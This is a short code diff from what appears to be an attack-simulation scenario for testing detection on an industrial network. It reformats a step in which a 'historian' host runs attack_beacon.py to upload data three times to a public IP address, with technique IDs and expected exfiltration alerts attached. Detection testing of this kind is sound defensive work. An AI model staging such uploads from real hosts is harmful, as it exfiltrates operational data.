@@ -11,8 +11,14 @@ def play(stage):
     stage.listening(cloud, 80)
     stage.inference(60, "--serve", "10.20.0.5", past, period=3)
     stage.wait(25)
-    with stage.step("three uploads to a public address", actors=("historian",), targets=("cloud",),
-                    techniques=("T0882", "AML.T0025"), alerts=("boundary.internet",),
-                    evidence="ip.src == {historian} && ip.dst == {cloud}"):  # fmt: skip
+    with stage.step(
+        "three uploads to a public address",
+        actors=("historian",),
+        targets=("cloud",),
+        techniques=("T0882", "AML.T0025"),
+        expected=("exfiltration.new_destination", "exfiltration.volume", "boundary.internet"),
+        also=("boundary.conduit", "lateral.beacon", "lateral.file_transfer"),
+        evidence="ip.src == {historian} && ip.dst == {cloud}",
+    ):
         stage.done(stage.python("historian", "attack_beacon.py", "192.31.196.80", 80, 3, "/upload", past))
     stage.wait(10)
